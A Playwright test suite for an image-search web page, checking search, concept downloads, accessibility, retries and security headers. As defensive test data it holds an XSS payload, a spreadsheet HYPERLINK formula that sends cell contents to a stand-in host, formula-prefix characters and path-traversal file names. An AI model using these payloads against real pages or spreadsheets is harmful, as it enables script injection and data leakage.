"""The page in a real Chromium, before the real service: what a person does with it, and what it must never do.

A missing browser is a failure: `.ci/run` brings one.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image
from playwright.sync_api import Browser, Locator, Page, Request, Route, expect, sync_playwright

from index.encoder.model_spec import ModelSpec
from index.files import read_bytes
from index.store.embed import EmbedConfig
from index.store.embedding_store import EmbeddingStore
from index.store.store_manifest import read_manifest, write_manifest
from index.store.store_model import remember_model
from retrieval.service.settings import Settings
from tests.conftest import embed_store
from tests.index.corpora import encode, write_tar
from tests.retrieval.service.conftest import Serve

ARGUMENTS = [
    "--no-sandbox",  # containers have no user namespaces for it, and the page is our own
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
expect.set_options(timeout=20_000)  # a busy machine is no defect of the page
TOKEN = "a-token.of_the~tests"
MARKUP = "<img src=x onerror=\"document.title='run'\">"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"see, here")'


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium") or "chromium", args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def url(served_store: EmbeddingStore, serve: Serve) -> Iterator[str]:
    with serve(served_store) as url:
        yield url


@pytest.fixture(scope="module")
def hostile_store(tiny_clip_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> EmbeddingStore:
    """Two images whose captions try to be markup and a formula. No index: they are scanned."""
    folder = tmp_path_factory.mktemp("hostile")
    members: list[tuple[str, bytes]] = []
    for number, caption in enumerate((MARKUP, FORMULA)):
        image = encode(Image.new("RGB", (40, 40), (200, 40 * number, 90)), "JPEG")
        fields = json.dumps({"key": f"-{number}", "caption": caption, "url": "https://example.org/"}).encode()
        members += [(f"-{number}.jpg", image), (f"-{number}.txt", caption.encode()), (f"-{number}.json", fields)]
    write_tar(folder / "00000.tar", members)
    model = ModelSpec(model_dir=str(tiny_clip_dir))
    config = EmbedConfig(source=str(folder / "00000.tar"), out=str(folder / "store"), model=model, device="cpu")
    store = embed_store(config)
    remember_model(store.path, model)
    return store


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page of its own; it fails the test when a script fails or when the policy had to refuse something."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce")
    context.set_default_timeout(20_000)
    page = context.new_page()
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda message: complaints.append(message.text) if _is_ours(message.text) else None)
    yield page
    context.close()
    assert not complaints


def _is_ours(message: str) -> bool:
    """Chromium itself writes a line for every answer that is an error, which some tests bring about."""
    return not message.startswith("Failed to load resource")


def search(page: Page, url: str, text: str = "a red circle") -> None:
    page.goto(url)
    words(page).fill(text)
    page.keyboard.press("Enter")
    expect(status(page)).to_contain_text("Found")


def retrieve_concepts(page: Page, url: str, names: str = "red circle\nblue square\n# a comment\ngreen circle") -> None:
    page.goto(f"{url}/#concepts")
    page.get_by_label("Concepts, one name a line").fill(names)
    number(page, "Results a prompt").fill("4")
    page.get_by_role("button", name="Retrieve").click()
    expect(status(page)).to_contain_text("Done:")
    expect(page.locator("#concept-rows .card").first).to_be_visible()  # cards are made when they come near the screen


def words(page: Page) -> Locator:
    return page.get_by_role("searchbox", name="Search by words")


def number(page: Page, name: str) -> Locator:
    """A number field of the view that is shown."""
    return page.get_by_role("spinbutton", name=name, exact=True)


def status(page: Page) -> Locator:
    return page.get_by_role("status")


def column(page: Page, name: str) -> Locator:
    return page.get_by_role("region", name=name, exact=True)


def row_ids(found: Locator) -> list[int]:
    return [int(item.get_attribute("data-row") or "") for item in found.locator(".card").all()]


def searched(url: str, **query: Any) -> list[int]:
    """What the service itself answers."""
    modality = query.pop("modality", "image")
    body = {"queries": [query], "modality": modality, "k": 20}
    answer = httpx.post(f"{url}/search", json=body, timeout=20)
    return [row["row_id"] for row in answer.raise_for_status().json()["results"][0]["rows"]]


def download(page: Page, button: str) -> str:
    with page.expect_download() as started:
        page.get_by_role("button", name=button).click()
    return Path(started.value.path()).read_bytes().decode("utf-8")


def test_words_are_answered_by_pictures_and_by_captions_side_by_side(page: Page, url: str) -> None:
    search(page, url)
    pictures, captions = column(page, "Pictures"), column(page, "Captions")
    assert row_ids(pictures) == searched(url, text="a red circle")
    assert row_ids(captions) == searched(url, text="a red circle", modality="text")
    left, right = pictures.bounding_box(), captions.bounding_box()
    assert left is not None
    assert right is not None
    assert left["x"] + left["width"] <= right["x"]
    assert left["y"] == right["y"]


def test_a_result_shows_picture_caption_score_key_and_near_duplicates(page: Page, url: str) -> None:
    search(page, url)
    body = {"queries": [{"text": "a red circle"}], "k": 20, "mark_duplicates": 0.94}
    rows = httpx.post(f"{url}/search", json=body, timeout=20).json()["results"][0]["rows"]
    ranks = {row["row_id"]: rank for rank, row in enumerate(rows, 1)}
    assert any(row["near_duplicates"] for row in rows), "the corpus has near-duplicates to show"
    for item, row in zip(column(page, "Pictures").get_by_role("listitem").all(), rows, strict=True):
        text = item.inner_text()
        assert row["caption"] in text
        assert f"{row['score']:.3f}" in text
        assert row["key"] in text
        same = sorted(ranks[other] for other in row["near_duplicates"] if other in ranks)
        assert [int(link.inner_text()) for link in item.locator(".near button").all()] == same
    picture = column(page, "Pictures").locator("img").first
    expect(picture).to_have_js_property("complete", True)
    assert picture.evaluate("image => image.naturalWidth") > 0


def test_the_address_keeps_a_search_and_back_returns_to_it(page: Page, url: str) -> None:
    search(page, url, "a red circle")
    number(page, "Minimum score").fill("-1")
    number(page, "Results").fill("5")
    number(page, "Duplicates from").fill("0.99")
    words(page).fill("ein & zwei = #3")
    page.keyboard.press("Enter")
    expect(page.locator("#by-image .card")).to_have_count(5)
    shared = page.url
    page.go_back()
    expect(words(page)).to_have_value("a red circle")
    expect(page.locator("#by-image .card")).to_have_count(20)
    assert row_ids(column(page, "Pictures")) == searched(url, text="a red circle")
    page.goto("about:blank")
    page.goto(shared)
    expect(page.locator("#by-image .card")).to_have_count(5)
    expect(words(page)).to_have_value("ein & zwei = #3")
    expect(number(page, "Minimum score")).to_have_value("-1")
    expect(number(page, "Duplicates from")).to_have_value("0.99")


def test_filters_leave_out_results_and_the_page_says_so(page: Page, url: str) -> None:
    page.goto(url)
    number(page, "Minimum side, px").fill("5000")
    words(page).fill("a red circle")
    page.keyboard.press("Enter")
    expect(status(page)).to_contain_text("Found 0 pictures and 0 captions")
    expect(column(page, "Pictures")).to_contain_text("Nothing meets the filters")


def test_clicking_a_result_searches_by_it(page: Page, url: str) -> None:
    search(page, url)
    first = row_ids(column(page, "Pictures"))[0]
    column(page, "Pictures").get_by_role("button", name=re.compile("More like this")).first.click()
    expect(page).to_have_url(re.compile(f"row={first}&"))
    expect(page.locator("#query")).to_contain_text("More like")
    expect(status(page)).to_contain_text("Found")
    like_it = [row for row in searched(url, row_id=first) if row != first]
    found = row_ids(column(page, "Pictures"))
    assert first not in found
    assert found[: len(like_it)] == like_it
    page.go_back()
    expect(words(page)).to_have_value("a red circle")


def original(store: EmbeddingStore, row: int) -> bytes:
    found = store.metadata([row], ["shard", "offset", "size"]).to_pylist()[0]
    content = read_bytes(f"{store.corpus_root}/{found['shard']}")
    return content[found["offset"] : found["offset"] + found["size"]]


def test_an_image_file_is_searched_by(page: Page, url: str, served_store: EmbeddingStore) -> None:
    page.goto(url)
    chosen = {"name": "mine.jpg", "mimeType": "image/jpeg", "buffer": original(served_store, 7)}
    page.get_by_label("Search by an image").set_input_files(chosen)  # type: ignore[arg-type]
    expect(status(page)).to_contain_text("Found")
    expect(page.locator("#query")).to_contain_text("mine.jpg")
    best = column(page, "Pictures").get_by_role("listitem").first
    expect(best).to_contain_text("1.000")
    assert 7 in row_ids(column(page, "Pictures"))


@pytest.mark.parametrize("way", ["paste", "drop"])
def test_an_image_is_taken_from_the_clipboard_and_by_drag_and_drop(
    page: Page, url: str, served_store: EmbeddingStore, way: str
) -> None:
    page.goto(url)
    expect(page.locator("#store")).to_contain_text("33 pictures")
    page.evaluate(
        """([bytes, way]) => {
            const data = new DataTransfer();
            data.items.add(new File([new Uint8Array(bytes)], "given.jpg", {type: "image/jpeg"}));
            const options = {bubbles: true, cancelable: true};
            const dispatch = (event) => document.body.dispatchEvent(event);
            if (way === "paste") dispatch(new ClipboardEvent("paste", {...options, clipboardData: data}));
            else for (const name of ["dragenter", "dragover", "drop"])
                dispatch(new DragEvent(name, {...options, dataTransfer: data}));
        }""",
        [list(original(served_store, 7)), way],
    )
    expect(page.locator("#query")).to_contain_text("given.jpg")
    expect(column(page, "Pictures").get_by_role("listitem").first).to_contain_text("1.000")


def test_what_is_no_image_gets_the_services_own_line(page: Page, url: str) -> None:
    page.goto(url)
    broken = {"name": "broken.png", "mimeType": "image/png", "buffer": b"\x89PNG no picture"}
    page.get_by_label("Search by an image").set_input_files(broken)  # type: ignore[arg-type]
    expect(status(page)).to_have_class("problem")
    expect(status(page)).to_contain_text("image")


def test_a_concept_list_gives_a_row_of_results_for_each_concept(page: Page, url: str) -> None:
    retrieve_concepts(page, url)
    body = {"concepts": ["red circle", "blue square", "green circle"], "k": 4}
    lines = [json.loads(line) for line in httpx.post(f"{url}/concepts", json=body, timeout=20).text.splitlines()]
    expected = {line["name"]: [row["row_id"] for row in line["rows"]] for line in lines if line["type"] == "concept"}
    assert len(expected) == 3
    for name, ids in expected.items():
        column(page, name).scroll_into_view_if_needed()
        expect(column(page, name).locator(".card")).to_have_count(len(ids[:12]))
        assert row_ids(column(page, name)) == ids[:12]
    expect(status(page)).to_contain_text(f"{sum(map(len, expected.values()))} results for 3 concepts")


def test_a_concept_list_is_loaded_from_a_file(page: Page, url: str) -> None:
    page.goto(f"{url}/#concepts")
    listed = {"name": "list.txt", "mimeType": "text/plain", "buffer": b"red circle\r\nblue square\r\n"}
    page.get_by_label("Load a text file").set_input_files(listed)  # type: ignore[arg-type]
    expect(page.get_by_label("Concepts, one name a line")).to_have_value("red circle\nblue square\n")
    expect(status(page)).to_contain_text("2 concepts")


def test_what_is_unticked_is_not_in_the_download(page: Page, url: str) -> None:
    retrieve_concepts(page, url)
    before = list(csv.DictReader(io.StringIO(download(page, "Download CSV"))))
    unticked = column(page, "red circle").get_by_role("listitem").first
    first = int(unticked.get_attribute("data-row") or "")
    unticked.get_by_role("checkbox").uncheck()
    column(page, "blue square").get_by_role("checkbox", name="Keep the concept blue square").uncheck()
    after = list(csv.DictReader(io.StringIO(download(page, "Download CSV"))))
    assert {row["concept"] for row in before} == {"red circle", "blue square", "green circle"}
    kept = [row for row in before if row["concept"] != "blue square"]
    assert after == [row for row in kept if (row["concept"], row["row_id"]) != ("red circle", str(first))]
    assert len(after) == len(kept) - 1
    lines = [json.loads(line) for line in download(page, "Download JSON lines").splitlines()]
    assert [(row["concept"], row["row_id"]) for row in lines] == [(row["concept"], int(row["row_id"])) for row in after]
    column(page, "red circle").get_by_role("listitem").first.get_by_role("checkbox").check()
    column(page, "blue square").get_by_role("checkbox", name="Keep the concept blue square").check()
    assert list(csv.DictReader(io.StringIO(download(page, "Download CSV")))) == before


def test_a_concept_list_can_be_cancelled(page: Page, url: str) -> None:
    page.goto(f"{url}/#concepts")
    names = "\n".join(f"concept {number}" for number in range(250))
    page.get_by_label("Concepts, one name a line").fill(names)
    page.get_by_label("Prompts").select_option("openai_imagenet")
    page.get_by_role("button", name="Retrieve").click()
    expect(page.get_by_role("progressbar", name="Queries answered")).to_be_visible()
    with page.expect_event("requestfailed", lambda request: request.url.endswith("/concepts")):
        page.get_by_role("button", name="Cancel").click()
    expect(status(page)).to_contain_text("Cancelled")
    expect(page.get_by_role("progressbar")).to_be_hidden()
    expect(page.get_by_role("button", name="Cancel")).to_be_disabled()


def test_captions_are_text_in_the_page_and_inert_in_the_csv(
    page: Page, serve: Serve, hostile_store: EmbeddingStore
) -> None:
    with serve(hostile_store) as url:
        search(page, url)
        for found in (column(page, "Pictures"), column(page, "Captions")):
            assert {item.inner_text() for item in found.locator(".caption").all()} == {MARKUP, FORMULA}
            assert found.locator("img").count() == 2, "none but the thumbnails"
        assert "run" not in page.title()
        retrieve_concepts(page, url, "red circle\n=1+1")
        expect(column(page, "red circle").or_(column(page, "=1+1")).first).to_be_visible()
        text = download(page, "Download CSV")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {row["caption"] for row in rows} >= {f"'{FORMULA}", MARKUP}
        assert {row["key"] for row in rows} == {"'-0", "'-1"}
        assert {row["concept"] for row in rows} <= {"red circle", "'=1+1"}
        lines = [json.loads(line) for line in download(page, "Download JSON lines").splitlines()]
        assert {row["caption"] for row in lines} >= {FORMULA, MARKUP}, "JSON is read by programs: nothing is changed"


def test_no_spreadsheet_evaluates_a_cell(page: Page, url: str) -> None:
    """Every start that some spreadsheet takes for a formula; rows as a hostile store would send them."""
    starts = ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    page.goto(url)
    text = page.evaluate(
        """async (starts) => {
            const {keptRows, toCsv} = await import("/page/selection.js");
            const caption = (start) => start + '1 "quoted", and more';
            const rows = starts.map((start, at) => ({row_id: at, score: -0.5, caption: caption(start)}));
            return toCsv(keptRows([{name: "plain", id: null, rows, kept: true, dropped: new Set()}]));
        }""",
        starts,
    )
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["caption"] for row in rows] == [f'\'{start}1 "quoted", and more' for start in starts]
    assert {row["score"] for row in rows} == {"-0.5"}, "a number is a number"
    assert {row["concept"] for row in rows} == {"plain"}


def test_everything_is_reached_by_keyboard(page: Page, url: str) -> None:
    page.goto(url)
    expect(page.locator("#store")).to_contain_text("33 pictures")
    for _ in range(10):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "words":
            break
    page.keyboard.type("a red circle")
    page.keyboard.press("Enter")
    expect(status(page)).to_contain_text("Found")
    first = row_ids(column(page, "Pictures"))[0]
    for _ in range(15):
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.matches(':focus-visible')")
        if page.evaluate("document.activeElement.className") == "open":
            break
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(f"row={first}&"))
    expect(page.get_by_role("heading", name="Pictures")).to_be_focused()


def test_the_skip_link_leads_to_the_content(page: Page, url: str) -> None:
    search(page, url)
    before = page.url
    page.evaluate("document.activeElement.blur(); document.getSelection().collapse(document.body, 0)")
    page.get_by_role("link", name="Skip to the content").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("main")).to_be_focused()
    assert page.url == before


def test_every_image_and_every_control_has_a_name(page: Page, url: str) -> None:
    search(page, url)
    _all_are_named(page)
    column(page, "Pictures").get_by_role("button", name=re.compile("More like this")).first.click()
    expect(status(page)).to_contain_text("Found")
    _all_are_named(page)
    retrieve_concepts(page, url)
    _all_are_named(page)


def _all_are_named(page: Page) -> None:
    session = page.context.new_cdp_session(page)
    nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    roles = {"button", "link", "textbox", "searchbox", "spinbutton", "checkbox", "radio", "combobox", "progressbar"}
    shown = [(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes if not node["ignored"]]
    nameless = [role for role, name in shown if role in {*roles, "image", "list"} and not name.strip()]
    assert {role for role, _ in shown} & {"button", "image"} == {"button", "image"}
    assert not nameless
    assert page.locator("img:not([alt])").count() == 0
    assert page.get_by_role("heading", level=1).count() == 1
    assert page.locator("html").get_attribute("lang") == "en"


def test_text_has_enough_contrast_in_light_and_in_dark(page: Page, url: str) -> None:
    """WCAG AA: 4.5 for text, 3 for the edges of controls. The colours are the custom properties of page.css."""
    pairs = [(ink, ground) for ink in ("ink", "soft", "blue") for ground in ("page", "panel", "tint")]
    pairs += [("warn", "warn-tint"), ("on-blue", "blue"), ("soft", "tile"), ("ink", "tile")]
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        page.goto(url)
        names = {name for pair in pairs for name in pair} | {"edge"}
        reader = "(n) => getComputedStyle(document.documentElement).getPropertyValue('--' + n).trim()"
        color = {name: page.evaluate(reader, name) for name in names}
        for ink, ground in pairs:
            assert _contrast(color[ink], color[ground]) >= 4.5, (scheme, ink, ground)
        for ground in ("page", "panel"):
            assert _contrast(color["edge"], color[ground]) >= 3, (scheme, ground)


def _contrast(one: str, other: str) -> float:
    dark, light = sorted((_luminance(one), _luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def _luminance(color: str) -> float:
    """Relative luminance of #rrggbb as WCAG 2 defines it."""
    parts = [int(color[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_a_phone_shows_all_of_it_without_scrolling_sideways(page: Page, url: str) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    wide = "document.documentElement.scrollWidth"
    search(page, url, "a-very-long-word-without-any-space-" * 8)
    assert page.evaluate(wide) <= 360
    expect(page.locator("#by-text")).to_be_hidden()
    page.locator("label", has_text="Captions").click()
    expect(page.locator("#by-text .card").first).to_be_visible()
    expect(page.locator("#by-image")).to_be_hidden()
    assert page.evaluate(wide) <= 360
    retrieve_concepts(page, url, "red circle\n" + "long" * 60)
    assert page.evaluate(wide) <= 360


def test_no_request_leaves_the_origin(page: Page, url: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    search(page, url)
    column(page, "Pictures").get_by_role("button", name=re.compile("More like this")).first.click()
    expect(status(page)).to_contain_text("Found")
    retrieve_concepts(page, url)
    page.get_by_role("button", name="Mark near-duplicates").first.click()
    expect(status(page)).to_contain_text("near-duplicates among them")
    assert len(asked) > 20
    assert [other for other in asked if not other.startswith((f"{url}/", "data:", "blob:"))] == []


def test_a_service_with_tokens_is_asked_with_the_one_that_is_typed_in(
    page: Page, serve: Serve, served_store: EmbeddingStore
) -> None:
    sent: list[Request] = []
    page.on("request", lambda request: sent.append(request))
    with serve(served_store, Settings(tokens=(TOKEN,))) as url:
        page.goto(f"{url}/#q=a+red+circle&k=5")
        field = page.get_by_label("Access token")
        expect(field).to_be_focused()
        field.fill("wrong")
        page.keyboard.press("Enter")
        expect(status(page)).to_contain_text("did not accept")
        field.fill(TOKEN)
        page.keyboard.press("Enter")
        expect(status(page)).to_contain_text("Found 5 pictures and 5 captions")
        expect(field).to_be_hidden()
        picture = column(page, "Pictures").locator("img").first
        expect(picture).to_have_attribute("src", re.compile("^blob:"))
        expect(picture).to_have_js_property("complete", True)
        assert picture.evaluate("image => image.naturalWidth") > 0
        assert page.evaluate("JSON.stringify(localStorage) + document.cookie") == "{}"
        assert not [request.url for request in sent if TOKEN in request.url]
        page.reload()
        expect(status(page)).to_contain_text("Found 5 pictures and 5 captions")


@pytest.mark.parametrize("code", [429, 503])
def test_a_busy_service_is_asked_again_after_the_time_it_names(page: Page, url: str, code: int) -> None:
    refused: list[str] = []

    def busy_once(route: Route) -> None:
        if len(refused) >= 2:
            route.fallback()
            return
        refused.append(route.request.url)
        route.fulfill(status=code, headers={"Retry-After": "1"}, json={"error": "too many wait"})

    page.route("**/search", busy_once)
    page.goto(f"{url}/#q=a+red+circle")
    expect(status(page)).to_contain_text("busy; trying again in 1 s")
    expect(status(page)).to_contain_text("Found 20 pictures and 20 captions")


def test_a_service_that_stays_busy_is_not_asked_for_ever(page: Page, url: str) -> None:
    asked: list[str] = []

    def busy(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=429, headers={"Retry-After": "1"}, json={"error": "too many requests wait for a search"})

    page.route("**/search", busy)
    page.goto(f"{url}/#q=a+red+circle")
    expect(status(page)).to_have_text("too many requests wait for a search")
    assert len(asked) == 6  # three times for pictures, three times for captions


def test_a_service_that_is_gone_is_one_clear_line(page: Page, url: str) -> None:
    page.goto(url)
    expect(page.locator("#store")).to_contain_text("33 pictures")
    page.context.set_offline(True)
    words(page).fill("a red circle")
    page.keyboard.press("Enter")
    expect(status(page)).to_have_text("The service cannot be reached; check the connection and try again.")


def test_a_partial_answer_says_what_is_missing(page: Page, url: str) -> None:
    def without_a_shard(route: Route) -> None:
        answer = route.fetch().json()
        route.fulfill(json={**answer, "partial": True, "missing": ["0003"]})

    page.route("**/search", without_a_shard)
    page.goto(f"{url}/#q=a+red+circle")
    expect(status(page)).to_contain_text("The answer is partial: no answer from 0003.")
    expect(page.locator("#by-image .card")).to_have_count(20)


def test_a_store_without_captions_and_images_shows_placeholders_in_one_column(
    page: Page, served_store: EmbeddingStore, serve: Serve, tmp_path: Path
) -> None:
    folder = tmp_path / "elsewhere"
    shutil.copytree(served_store.path, folder)
    shutil.rmtree(folder / "index")
    manifest = read_manifest(str(folder))
    parts = [
        replace(part, files={"image": part.files["image"], "metadata": part.files["metadata"]})
        for part in manifest.parts
    ]
    write_manifest(str(folder), replace(manifest, parts=tuple(parts), corpus_root=None))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    with serve(EmbeddingStore.open(folder)) as url:
        search(page, url)
        expect(column(page, "Captions")).to_be_hidden()
        tile = column(page, "Pictures").get_by_role("button", name=re.compile("More like this: a .* (circle|square)"))
        expect(tile).to_have_count(20)
        expect(tile.first.locator(".instead")).to_be_visible()
        retrieve_concepts(page, url)
        expect(page.get_by_role("combobox", name="Search", exact=True)).to_have_count(0)
    assert not [address for address in asked if "/image" in address]


def test_the_policy_allows_nothing_from_elsewhere_and_nothing_inline(url: str) -> None:
    for path in ("/", "/page/main.js", "/page/page.css", "/page/no-such-file"):
        policy = httpx.get(f"{url}{path}").headers["Content-Security-Policy"]
        rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
        assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == rules["frame-ancestors"] == "'none'"
        assert rules["script-src"] == rules["style-src"] == rules["connect-src"] == "'self'"
        assert rules["img-src"] == "'self' data: blob:"
        assert rules["require-trusted-types-for"] == "'script'"


def test_assets_are_a_fixed_list_and_cached_by_their_content(url: str) -> None:
    page = httpx.get(url).text
    names = re.findall(r'(?:src|href)="page/([^"]+)"', page)
    assert "main.js" in names
    for name in names:
        first = httpx.get(f"{url}/page/{name}")
        assert first.status_code == 200
        again = httpx.get(f"{url}/page/{name}", headers={"If-None-Match": first.headers["ETag"]})
        assert (again.status_code, again.content) == (304, b"")
    for name in ("index.html", "..%2fapp.py", "..%2F..%2F__init__.py", "nothing.js"):
        answer = httpx.get(f"{url}/page/{name}")
        assert answer.status_code == 404
        assert "error" in answer.json() or "detail" in answer.json()
